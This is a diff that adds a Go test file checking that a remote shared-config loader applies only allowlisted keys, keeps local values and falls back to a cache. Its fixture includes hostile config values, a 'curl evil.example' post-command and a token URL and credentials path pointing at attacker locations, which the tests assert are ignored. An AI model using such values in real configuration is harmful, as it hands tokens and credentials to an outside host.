@@ -0,0 +1,93 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"testing"
+)
+
+// unsetEnv unsets `key` for the rest of the test.
+func unsetEnv(t *testing.T, key string) {
+	t.Helper()
+	t.Setenv(key, "")
+	os.Unsetenv(key)
+}
+
+// serveRemoteConfig serves `body` with `status` as CONFIG_URL, and points
+// CONFIG_CACHE_DIR at a temporary directory.
+func serveRemoteConfig(t *testing.T, status *int, body string) {
+	t.Helper()
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(*status)
+		w.Write([]byte(body))
+	}))
+	t.Cleanup(server.Close)
+	client := remoteConfigClient
+	remoteConfigClient = server.Client()
+	t.Cleanup(func() { remoteConfigClient = client })
+	t.Setenv("CONFIG_URL", server.URL+"/shared.env")
+	t.Setenv("CONFIG_CACHE_DIR", t.TempDir())
+}
+
+func TestLoadRemoteConfig(t *testing.T) {
+	status := http.StatusOK
+	serveRemoteConfig(t, &status, "SHEET_NAME=Shared\nBATCH_COUNT=50\nSORT_BY=name\n"+
+		"POST_COMMAND=\"curl evil.example\"\nOAUTH_TOKEN_URL=https://evil.example/token\n"+
+		"CREDENTIALS_FILE_NAME=/tmp/creds.json\nREDACT_SALT=salt\n")
+	for _, key := range []string{"SHEET_NAME", "SORT_BY", "POST_COMMAND", "OAUTH_TOKEN_URL", "CREDENTIALS_FILE_NAME", "REDACT_SALT"} {
+		unsetEnv(t, key)
+	}
+	t.Setenv("BATCH_COUNT", "10")
+
+	set, err := loadRemoteConfig()
+	if err != nil {
+		t.Fatalf("loadRemoteConfig: %v", err)
+	}
+	if len(set) != 2 || set[0] != "SHEET_NAME" || set[1] != "SORT_BY" {
+		t.Errorf("set = %v, want [SHEET_NAME SORT_BY]", set)
+	}
+	if got := os.Getenv("SHEET_NAME"); got != "Shared" {
+		t.Errorf("SHEET_NAME = %q, want Shared", got)
+	}
+	if got := os.Getenv("BATCH_COUNT"); got != "10" {
+		t.Errorf("BATCH_COUNT = %q, want the local 10", got)
+	}
+	for _, key := range []string{"POST_COMMAND", "OAUTH_TOKEN_URL", "CREDENTIALS_FILE_NAME", "REDACT_SALT"} {
+		if value, ok := os.LookupEnv(key); ok {
+			t.Errorf("%s = %q, want it ignored", key, value)
+		}
+	}
+}
+
+func TestLoadRemoteConfigNon200(t *testing.T) {
+	status := http.StatusForbidden
+	serveRemoteConfig(t, &status, "SHEET_NAME=Shared\n")
+	unsetEnv(t, "SHEET_NAME")
+
+	if set, err := loadRemoteConfig(); err == nil {
+		t.Fatalf("loadRemoteConfig = %v, want an error without a cached copy", set)
+	}
+	if value, ok := os.LookupEnv("SHEET_NAME"); ok {
+		t.Errorf("SHEET_NAME = %q, want it unset", value)
+	}
+}
+
+func TestLoadRemoteConfigCached(t *testing.T) {
+	status := http.StatusOK
+	serveRemoteConfig(t, &status, "SHEET_NAME=Cached\n")
+	unsetEnv(t, "SHEET_NAME")
+	if _, err := loadRemoteConfig(); err != nil {
+		t.Fatalf("loadRemoteConfig: %v", err)
+	}
+
+	status = http.StatusInternalServerError
+	unsetEnv(t, "SHEET_NAME")
+	set, err := loadRemoteConfig()
+	if err != nil {
+		t.Fatalf("loadRemoteConfig with the cached copy: %v", err)
+	}
+	if len(set) != 1 || os.Getenv("SHEET_NAME") != "Cached" {
+		t.Errorf("set = %v, SHEET_NAME = %q, want it from the cached copy", set, os.Getenv("SHEET_NAME"))
+	}
+}